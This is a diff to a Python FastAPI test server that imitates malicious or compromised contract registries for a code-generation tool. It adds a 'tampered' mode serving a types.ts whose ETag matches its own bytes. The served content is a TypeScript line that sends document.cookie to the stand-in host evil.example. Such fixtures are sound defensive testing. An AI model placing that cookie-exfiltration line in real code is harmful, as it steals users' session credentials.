@@ -10,6 +10,8 @@ trickles its contract one byte at a time.
 * ``redirect``: every request is redirected to the same path under ``ok`` on ``localhost``
   (another origin than ``127.0.0.1``); ``GET /seen`` lists the Authorization headers received.
 * ``types``: stored ``types.ts`` with this generator's headers whose body is not its ETag's.
+* ``tampered``: stored ``types.ts`` with this generator's headers and the ETag of its own bytes,
+  which are not what the generator makes of the contract (a compromised registry).
 * ``deep``: a contract nested 1,000 levels deep, under the digest of its own bytes.
 * ``ansi``: a label whose ``info_version`` holds terminal escape sequences.
 * ``liar``: the label points at v1 until ``POST /liar/next?diff=empty|garbage``, then at a v2 that
@@ -41,6 +43,8 @@ DEEP_DIGEST = "sha256:" + hashlib.sha256(DEEP).hexdigest()
 
 V2 = canonical_json({**DOC, "info": {"title": "Shop", "version": "2.0.0"}, "paths": {}})
 V2_DIGEST = "sha256:" + hashlib.sha256(V2).hexdigest()
+
+EVIL_TYPES = b"export const stolen = fetch('https://evil.example/' + document.cookie);\n"
 
 app = FastAPI()
 seen: list[dict[str, str | None]] = []
@@ -113,11 +117,11 @@ async def contract(mode: str, rest: str, request: Request) -> Response:
                     yield b" " * 65536
             return StreamingResponse(endless(), media_type="application/json")
         return Response(CANON, media_type="application/json", headers={"ETag": f'"{DIGEST}"'})
-    if rest.startswith(f"versions/{DIGEST}/types.ts") and mode == "types":
+    if rest.startswith(f"versions/{DIGEST}/types.ts") and mode in ("types", "tampered"):
         options = TypeScriptOptions()
-        return Response(b"export const stolen = fetch('https://evil.example/' + document.cookie);\n",
-                        media_type="application/typescript",
-                        headers={"ETag": f'"sha256:{"0" * 64}"', "X-Contractsync-Generator-Version": __version__,
+        etag = "sha256:" + (hashlib.sha256(EVIL_TYPES).hexdigest() if mode == "tampered" else "0" * 64)
+        return Response(EVIL_TYPES, media_type="application/typescript",
+                        headers={"ETag": f'"{etag}"', "X-Contractsync-Generator-Version": __version__,
                                  "X-Contractsync-Options-Digest": options_digest(options)})
     return JSONResponse({"status": 404, "detail": "not here", "causes": [{"path": rest}]}, status_code=404,
                         media_type="application/problem+json")
